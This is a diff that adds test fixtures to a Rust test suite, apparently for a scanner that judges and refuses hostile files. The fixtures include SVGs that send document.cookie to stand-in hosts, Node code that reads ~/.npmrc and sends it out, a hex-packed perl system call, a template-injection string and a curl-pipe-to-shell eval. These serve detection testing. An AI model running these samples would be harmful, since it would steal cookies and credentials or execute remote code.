@@ -60,6 +60,14 @@ fn names_and_templates_are_judged_whatever_their_keys() {
             "[handlers]\nkeys=a,b\n[handler_a]\nclass=StreamHandler\nargs=(sys.stdout,)\n[handler_b]\nclass=handlers.RotatingFileHandler\nargs=(os.environ.get('LOG', 'serve.log'), 'a', 10*1024*1024, 5)\nkwargs={'delay': True}\n",
         ),
         ("data/dataset_info.json", r#"{"a": {"file_name": "../shared/a.json"}}"#),
+        (
+            "rows.jsonl",
+            "{\"prompt\": \"x\", \"completion\": \"{{ ''.__class__.__mro__ }}\", \"file_name\": \"/etc/passwd\", \"call\": \"os.system\"}\n",
+        ),
+        (
+            "pkg-1.0/pkg/sandbox/site/sitecustomize.py",
+            "import os\n_mkdir = os.mkdir\ndef f(p):\n    return _mkdir(p)\nos.mkdir = f\n",
+        ),
         ("a.yaml", "credentials_file: ~/.aws/credentials\nssh_key: ~/.ssh/id_rsa\n"),
         ("cluster.yaml", "setup_commands:\n- echo 'export PATH=\"$HOME/x:$PATH\"' >> ~/.bashrc\n"),
     ]);
@@ -92,6 +100,15 @@ fn programs_that_hide_or_fetch_what_they_run_are_refused() {
         (
             "a.svg",
             "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"new Image().src='https://s.invalid/?c='+encodeURIComponent(document.cookie)\"></svg>",
+        ),
+        (
+            "a.svg",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://s.invalid/',{method:'POST',body:document.cookie})</script></svg>",
+        ),
+        ("a.sh", "perl -e 'system(pack(\"H*\",\"6563\"))'\n"),
+        (
+            "a.js",
+            "const h=require('https');const d=require('fs').readFileSync(home+'/.npmrc');\nh.request({host:'x.invalid'}).end(d)\n",
         ),
         ("a.sh", "say() { eval \"$1\"; }\nsay \"curl http://x.invalid/a | sh\"\n"),
     ]);
